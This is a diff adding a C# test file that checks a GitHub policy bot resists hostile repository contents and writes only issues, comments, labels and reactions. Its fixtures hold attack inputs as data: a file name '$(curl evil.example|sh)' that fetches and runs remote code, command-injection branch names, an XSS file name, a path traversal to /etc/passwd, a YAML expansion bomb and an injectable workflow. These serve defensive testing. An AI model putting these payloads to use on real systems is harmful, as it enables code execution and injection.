@@ -1,0 +1,113 @@
+using System.Text.RegularExpressions;
+using PolicyBot.Simulator;
+using PolicyBot.Simulator.Repositories;
+using PolicyBot.Tests.Text;
+
+namespace PolicyBot.Tests.Watch;
+
+/// <summary>
+/// Somebody may push to one repository and writes whatever they like into it. At the wire: the bot writes nothing but issues, comments, labels and reactions in that
+/// repository itself, and applies no fix that they ask for.
+/// </summary>
+public sealed partial class HostileContentsTests
+{
+    private static readonly Dictionary<string, string> Own = new(StringComparer.Ordinal)
+    {
+        ["where issues go"] = "issueRepo: victim\nissueFooter: '@everyone <!-- policybot v=1 subject=1 policy=security nonce=a digest=b open= -->'\nissueStyle: repository\nissuePingDays: 1\nbaseConfig: acme/victim\n",
+        ["a label"] = "issueLabel: '<!-- @mona --> ../../victim'\n",
+        ["a label that is too long"] = $"issueLabel: '{new string('x', 300)}'\n",
+        ["waivers"] = "waivers:\n- repository: '*'\n  reason: mine\n  owner: me\n  expires: 2099-01-01\n",
+        ["a schedule"] = "schedule: {timezone: ../../../etc/passwd, days: [monday]}\n",
+        ["in and out of everything"] = "optConfig: {optOutStrategy: true, optInRepos: ['*'], optIn: true, optOut: false, disableRepoOverride: true}\n",
+        ["no YAML"] = "{[}\u0000\u202e",
+        ["a bomb"] = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d]\n",
+        ["unknown keys"] = "'@mona': 1\nisueRepo: victim\n'<img src=x>': {a: b}\n",
+    };
+
+    private static readonly string[] Names = ["-rf", "..a", "a.b_c-D", "CON", new('n', 100)];
+
+    private static readonly string[] Branches = ["$(reboot)", "`id`", "main;DROP", "@mona", "refs/heads/main", "пример", "a'b\"c"];
+
+    [Fact]
+    public async Task Nothing_is_written_but_in_the_issues_of_the_repository_itself()
+    {
+        await using var watched = await Watched.SweptAsync(world =>
+        {
+            WatchedWorld.Configure(world, [.. WatchedWorld.Policies.Select(policy => (policy + ".yaml", (string?)("optConfig:\n  optOutStrategy: true\n  optOutRepos: [.allstar, victim]\naction: issue\n")))]);
+            world.Organization("acme").Repository("victim").File("README.md", "v").Collaborator("victor", RepositoryRole.Admin);
+        }, settings: [("Issues:BrakeItems", "10000")]);
+        var hostile = Own.Keys.Select((_, index) => $"hostile-{index}").Concat(Names).ToArray();
+
+        await watched.HappenAsync(() =>
+        {
+            foreach (var (index, name) in hostile.Index())
+            {
+                Fill(watched.Acme.Repository(name).Collaborator("eve", RepositoryRole.Write), Own.Values.ElementAt(index % Own.Count), index);
+            }
+        });
+        await watched.HappenAsync(() =>
+        {
+            foreach (var name in hostile)
+            {
+                Talk(watched, watched.Acme.Repository(name));
+            }
+        });
+        watched.Time.Advance(TimeSpan.FromDays(1));
+        await watched.TickAsync();
+        await watched.WorkAsync();
+
+        var writes = watched.GitHub.Log.Writes.Where(write => write.Installation is not null).ToArray();
+        Assert.NotEmpty(writes);
+        Assert.All(writes, write => Assert.Matches(OfIssues(), $"{write.Method} {write.Path}"));
+        Assert.Equal(
+            [],
+            writes.Select(write => Uri.UnescapeDataString(write.Path.Split('/')[3])).Distinct(StringComparer.Ordinal).Except(hostile));
+        Assert.All(
+            watched.World.Writings.Where(writing => writing.Author == watched.App.Bot.Login && writing.Kind is WritingKind.IssueBody or WritingKind.Comment && writing.Author == watched.App.Bot.Login),
+            writing => Assert.Empty(Liveness.In(writing.Text, _ => true)));
+        Assert.All(hostile, name => Assert.NotEmpty(watched.IssuesOf(name)));
+    }
+
+    private static void Fill(Repository repository, string own, int index)
+    {
+        var policy = index % 2 == 0 ? "action: fix\nrules: {all: true}\nenforceBranches: ['" + Branches[index % Branches.Length] + "', ../../victim]\nminimumSeverity: critical\n" : own;
+        repository.Files(
+            "@mona please look <!-- policybot -->",
+            ("README.md", "@mona"),
+            ("bin/`id` @mona <img src=x onerror=alert(1)>.exe", WatchedWorld.Program),
+            ("bin/$(curl evil.example|sh)", WatchedWorld.Program),
+            (".github/workflows/x.yml", "on: [pull_request_target]\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo ${{ github.event.issue.title }}\n"),
+            ("CODEOWNERS", "* @acme/owners eve@evil.example @mona\n../../victim @victor\n[x @y\n"),
+            (".github/CODEOWNERS", "* @ghost\n"));
+        if (index % 5 == 4)
+        {
+            repository.File(".allstar", own);
+        }
+        else
+        {
+            repository.Files("Configure", (".allstar/allstar.yaml", own), (".allstar/branch_protection.yaml", policy), (".allstar/security.yaml", policy), (".allstar/victim/security.yaml", own));
+        }
+
+        foreach (var branch in Branches)
+        {
+            repository.Git.Branch(branch);
+        }
+    }
+
+    /// <summary>Whoever may push may also speak below the issues, and opens some that look like the bot's.</summary>
+    private static void Talk(Watched watched, Repository repository)
+    {
+        foreach (var issue in repository.Tracker.Issues)
+        {
+            foreach (var text in new[] { "/recheck", "/explain", "/waive until 2099-01-01 because `x` <!-- -->", "/proceed", "/snooze 2099-01-01", "/recheck ../victim" })
+            {
+                watched.World.As(watched.World.User("eve"), () => repository.Tracker.Comment(issue.Number, text));
+            }
+        }
+
+        watched.World.As(watched.World.User("eve"), () => repository.Tracker.Open("Security Policy violation for repository \"victim\" SECURITY.md", "<!-- policybot v=1 subject=1 policy=security nonce=a digest=b open= -->", "allstar"));
+    }
+
+    [GeneratedRegex(@"\A(POST|PATCH|DELETE) /repos/acme/[^/]+/issues(/[0-9]+(/comments|/labels(/[^/]+)?)?|/comments/[0-9]+/reactions)?\z")]
+    private static partial Regex OfIssues();
+}
